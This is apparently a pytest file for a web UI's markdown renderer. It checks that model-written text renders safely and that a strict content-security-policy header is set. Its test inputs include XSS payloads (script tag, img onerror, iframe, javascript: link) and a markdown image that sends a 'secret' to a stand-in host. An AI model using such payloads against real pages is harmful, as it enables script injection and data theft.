"""What a run says of itself, as a page."""

import pytest

from durable_responses.web_ui.markdown import rendered


def page(text: str) -> str:
    return bytes(rendered(text, dark=False).body).decode().split("<main>")[1].split("</main>")[0]


def test_markdown_is_rendered() -> None:
    assert "<strong>running</strong>" in page("**running**")
    assert "<li>" in page("- one")


@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<iframe src=//evil.example>"]
)
def test_html_is_text(text: str) -> None:
    """The text is a model's."""
    shown = page(text)
    assert "&lt;" in shown
    assert "<script" not in shown
    assert "<i" not in shown


def test_nothing_is_loaded_from_elsewhere() -> None:
    assert "<img" not in page("![x](https://evil.example/?secret)")
    assert "default-src 'none'" in rendered("", dark=True).headers["content-security-policy"]


def test_a_link_runs_no_script() -> None:
    assert "href" not in page("[x](javascript:alert(1))")
